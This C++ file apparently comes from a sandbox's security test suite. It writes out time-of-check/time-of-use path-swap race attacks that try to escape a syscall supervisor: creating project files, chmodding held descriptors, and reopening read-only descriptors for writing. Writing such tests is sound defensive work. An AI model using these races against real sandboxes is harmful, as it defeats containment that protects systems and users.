#include <fcntl.h>
#include <sched.h>
#include <sys/stat.h>
#include <unistd.h>

#include <atomic>
#include <cstdio>
#include <cstring>
#include <functional>
#include <thread>
#include <vector>

#include "tests/security/victim.h"

namespace sandglass::victim {
namespace {

constexpr char kInnocent[] = "/tmp/innocent";
constexpr int kRound = 64;

// The path that the calls get; the other thread replaces it some microseconds after a call began.
class SwappedPath {
 public:
  SwappedPath() : thread_([this] { Swap(); }) {}
  ~SwappedPath() {
    end_ = true;
    thread_.join();
  }

  void Try(const std::string& wanted, const std::function<void(const char*)>& call) {
    wanted_ = wanted;
    // The first of each round is swapped before anybody looks.
    const std::string first = ++round_ % kRound == 1 ? wanted : kInnocent;
    std::memcpy(path_, first.c_str(), first.size() + 1);
    go_ = true;
    call(path_);
    while (go_) ::sched_yield();
  }

 private:
  void Swap() {
    while (!end_) {
      if (!go_) {
        ::sched_yield();  // the supervisor may have no other CPU
        continue;
      }
      // The time that the supervisor takes is not known: try them all.
      for (volatile int spin = 0; spin < (round_ % kRound) * 500; spin = spin + 1) continue;
      std::memcpy(path_, wanted_.c_str(), wanted_.size() + 1);
      go_ = false;
    }
  }

  char path_[256] = {};
  std::string wanted_;
  int round_ = 0;
  std::atomic<bool> go_{false}, end_{false};
  std::thread thread_;
};

void MakeInnocent() { ::close(::open(kInnocent, O_WRONLY | O_CREAT, 0644)); }

std::string Numbered(const std::string& folder, int number) {
  return folder + "/" + std::to_string(number);
}

std::string Held(int fd) { return "/proc/self/fd/" + std::to_string(fd); }

// Says that it has its files open, and goes on when it is told to.
void AwaitNextStep() {
  std::printf("ready\n");
  char byte = 0;
  [[maybe_unused]] const ssize_t told = ::read(0, &byte, 1);
}

}  // namespace

// Creates files; where the call is judged by its first path, the second is a file of the project.
Ended SwapIntoProject(const Task& task) {
  MakeInnocent();
  SwappedPath path;
  for (int i = 0; i < task.number; ++i) {
    path.Try(Numbered(task.target, i),
             [](const char* text) { ::close(::open(text, O_WRONLY | O_CREAT, 0644)); });
  }
  return Ended::kEscaped;
}

// Files that an earlier step was given, and whose metadata this step has not recorded yet.
Ended SwapChmod(const Task& task) {
  MakeInnocent();
  std::vector<int> files;
  files.reserve(static_cast<size_t>(task.number));
  for (int i = 0; i < task.number; ++i)
    files.push_back(::open(Numbered(task.target, i).c_str(), O_RDWR));
  AwaitNextStep();
  SwappedPath path;
  for (const int file : files) path.Try(Held(file), [](const char* text) { ::chmod(text, 0600); });
  return Ended::kEscaped;
}

// A descriptor for reading that lies on the same mount as the one for writing from which it was made.
Ended SwapOpen(const Task& task) {
  MakeInnocent();
  std::vector<int> files;
  files.reserve(static_cast<size_t>(task.number));
  for (int i = 0; i < task.number; ++i) {
    const int writable = ::open(Numbered(task.target, i).c_str(), O_RDWR);
    files.push_back(::open(Held(writable).c_str(), O_RDONLY));
    ::close(writable);
  }
  AwaitNextStep();
  SwappedPath path;
  for (const int file : files) {
    path.Try(Held(file), [](const char* text) {
      const int opened = ::open(text, O_WRONLY);
      [[maybe_unused]] const ssize_t written = ::write(opened, "escaped", 7);
      ::close(opened);
    });
  }
  return Ended::kEscaped;
}

}  // namespace sandglass::victim
